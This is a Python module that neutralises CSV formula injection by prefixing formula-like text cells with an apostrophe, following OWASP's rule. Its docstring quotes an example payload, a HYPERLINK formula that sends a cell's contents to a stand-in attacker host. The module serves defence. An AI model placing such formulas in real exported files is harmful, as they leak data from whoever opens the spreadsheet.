"""CSV cells a spreadsheet shows and never runs (SECURITY 43).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after a TAB or CR, whatever follows) as a formula: a contact named
``=HYPERLINK("http://evil.example/?x="&A2,"Click")`` would run in the accountant's spreadsheet.
OWASP's rule is applied: such a cell is written with a leading ``'``, which makes it text.

A number is not a formula: a typed amount (``Decimal`` or ``int``) such as ``-5.00`` is
written as it is, so money columns stay numbers a spreadsheet can add up. A *text* field that
merely looks like one (an invoice numbered ``-5``, a name ``+1 555``) is neutralised like any
other text: only the type the API client gave the value decides, never its content.
"""

from __future__ import annotations

from decimal import Decimal

__all__ = ["FORMULA_STARTS", "csv_cell"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(value: object) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, Decimal):
        return value.is_finite()  # "-Infinity" and "NaN" are text to a spreadsheet
    return isinstance(value, int)


def csv_cell(value: object, *, neutralise: bool = True) -> str:
    """The text of one CSV cell: ``''`` for ``None``; a formula-like text gets a ``'`` first.

    >>> csv_cell("=1+1"), csv_cell(Decimal("-5.00")), csv_cell("-5")
    ("'=1+1", '-5.00', "'-5")
    """
    if value is None:
        return ""
    text = str(value)
    if neutralise and not _is_number(value) and text.startswith(FORMULA_STARTS):
        return "'" + text
    return text
